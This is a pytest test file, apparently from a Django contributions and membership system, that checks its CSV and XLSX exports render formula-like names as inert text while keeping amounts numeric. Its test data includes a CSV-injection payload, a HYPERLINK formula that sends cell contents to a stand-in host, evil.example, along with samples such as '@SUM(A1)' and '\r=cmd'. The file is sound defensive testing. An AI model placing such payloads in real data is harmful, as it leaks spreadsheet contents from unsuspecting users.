"""A name a spreadsheet would run as a formula comes out of every table export as text.

A participant named ``=HYPERLINK("http://evil.example/?x="&B2, "Klik di sini")`` is accepted by the API,
the desk and the importer. Every CSV and XLSX jaring hands out writes its cells through
``jaring.common.sheets``: in CSV such a cell starts with an apostrophe, in XLSX it is a typed string cell;
numbers (a reversal's negative amount) stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from jaring.common.sheets import csv_cell, xlsx_append
from jaring.web.tables import Column, table_bytes

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2, "Klik di sini")'


@pytest.fixture
def formula_world(network, staff):
    """The network with a worker named ``FORMULA``, registered today by agent AG-1 at Pos Karawang
    through ``participant_register``, paying a month and having it reversed, a member of payer DKI's
    group, and this month's bill of DKI holding the worker's line."""
    from tests.conftest import a_village

    from jaring.contributions.models import GroupMembership, PayerGroup
    from jaring.contributions.services import bill_issue, payment_quote, payment_record, payment_reverse
    from jaring.members.services import participant_register
    from jaring.rules.nik import Sex, make_nik

    w = network
    now = timezone.now()
    w.formula = participant_register(
        nik=make_nik("32.15.01", date(1990, 4, 12), Sex("M"), 777),
        name=FORMULA, birth_date=date(1990, 4, 12), sex="M", village_code=a_village("32.15.01"),
        occupation_code="PEDAGANG_PASAR", declared_income=1_000_000, programmes="JKK+JKM",
        outlet=w.pos_karawang, agent=w.agent, phone="+6281200000777", registered_at=now,
    ).participant  # fmt: skip
    _months, price = payment_quote(w.formula, months=1, at=now)
    w.price = price.total
    payment = payment_record(
        participant=w.formula, months=1, amount=w.price, source="test", idempotency_key="formula-1",
        paid_at=now, outlet=w.pos_karawang, agent=w.agent,
    ).payment  # fmt: skip
    payment_reverse(payment=payment, reason="salah input", source="test", idempotency_key="formula-1-r")
    group = PayerGroup.objects.get(payer=w.payer, code="PPSU")
    GroupMembership.objects.create(group=group, participant=w.formula, first_month=w.formula.registered_month)
    w.this_month_bill = bill_issue(payer=w.payer, month=w.formula.registered_month)
    w.teller = staff("outlet_teller", outlet=w.pos_karawang)
    w.agent_user = staff("agent", agent=w.agent)
    w.payer_user = staff("payer", payer=w.payer)
    return w


def csv_of(client, url, params) -> list[list[str]]:
    response = client.get(url, {**params, "format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def xlsx_cells(client, url, params) -> list:
    response = client.get(url, {**params, "format": "xlsx"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_formula_is_text(client, url, params=None):
    params = params or {}
    rows = csv_of(client, url, params)
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells, f"{url}: no quoted name in {rows}"
    assert FORMULA not in cells
    found = [cell for cell in xlsx_cells(client, url, params) if cell.value == FORMULA]
    assert found, f"{url}: the name is not in the XLSX"
    assert all(cell.data_type == "s" for cell in found)
    return rows


def test_the_desk_exports_write_the_formula_name_as_text_and_a_reversal_as_a_number(client, formula_world):
    w = formula_world
    client.force_login(w.teller)
    url = reverse("desk:home")
    assert_formula_is_text(client, url, {"outlet": "POS-KRW", "export": "registrations"})
    rows = assert_formula_is_text(client, url, {"outlet": "POS-KRW", "export": "payments"})
    amounts = {row[6] for row in rows[1:] if row[2] == "'" + FORMULA}
    assert amounts == {str(w.price), str(-w.price)}  # "-16800", not "'-16800": a number
    reversal = [
        cell
        for cell in xlsx_cells(client, url, {"outlet": "POS-KRW", "export": "payments"})
        if cell.value == -w.price
    ]
    assert reversal and reversal[0].data_type == "n"


def test_the_agent_participants_export_writes_the_formula_name_as_text(client, formula_world):
    client.force_login(formula_world.agent_user)
    assert_formula_is_text(client, reverse("perisai:participants", args=["AG-1"]))


def test_the_payer_member_and_bill_exports_write_the_formula_name_as_text(client, formula_world):
    w = formula_world
    client.force_login(w.payer_user)
    assert_formula_is_text(client, reverse("web:payer", args=["DKI"]), {"table": "members"})
    month = str(w.this_month_bill.month)
    rows = assert_formula_is_text(client, reverse("web:bill", args=["DKI", month]))
    (line,) = [row for row in rows if row[1] == "'" + FORMULA]
    assert line[3].isdigit()  # the amount stays a number


def test_the_audit_export_quotes_a_formula_typed_as_a_username(client, formula_world, staff):
    client.post(reverse("accounts:login"), {"username": FORMULA, "password": "salah"})
    client.force_login(staff("auditor"))
    rows = csv_of(client, reverse("accounts:audit-export"), {"action": "login_failed"})
    assert [row[1] for row in rows[1:] if FORMULA in row[1]] == ["'" + FORMULA]


def test_text_cells_that_would_run_are_neutralised_and_numbers_and_phones_are_kept():
    columns = [Column("Name"), Column("Phone"), Column("Amount", "rupiah"), Column("Note")]
    rows = [
        (FORMULA, "+6281234567890", -16_800, "@SUM(A1)"),
        ("\t=1+1", "0812", 16_800, "-2"),
        ("Budi", None, 0, "\r=cmd"),
    ]
    text = table_bytes(title="t", columns=columns, rows=rows, fmt="csv").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1:] == [
        ["'" + FORMULA, "'+6281234567890", "-16800", "'@SUM(A1)"],
        ["'\t=1+1", "0812", "16800", "'-2"],
        ["Budi", "", "0", "'\r=cmd"],
    ]
    book = load_workbook(io.BytesIO(table_bytes(title="t", columns=columns, rows=rows, fmt="xlsx")))
    first = next(book.active.iter_rows(min_row=2, max_row=2))
    assert [(cell.value, cell.data_type) for cell in first] == [
        (FORMULA, "s"), ("+6281234567890", "s"), (-16_800, "n"), ("@SUM(A1)", "s"),
    ]  # fmt: skip
    assert first[1].quotePrefix  # editing the phone in Excel keeps it text


def test_the_writer_keeps_dates_and_strips_what_a_workbook_cannot_hold():
    from decimal import Decimal

    assert csv_cell(Decimal("-1.5")) == Decimal("-1.5") and csv_cell(date(2024, 5, 1)) == date(2024, 5, 1)
    sheet = Workbook().active
    number = xlsx_append(sheet, ["Budi\x07", date(2024, 5, 1), Decimal("2.5")])
    values = [cell.value for cell in sheet[number]]
    assert values[0] == "Budi" and values[1].year == 2024 and values[2] == Decimal("2.5")
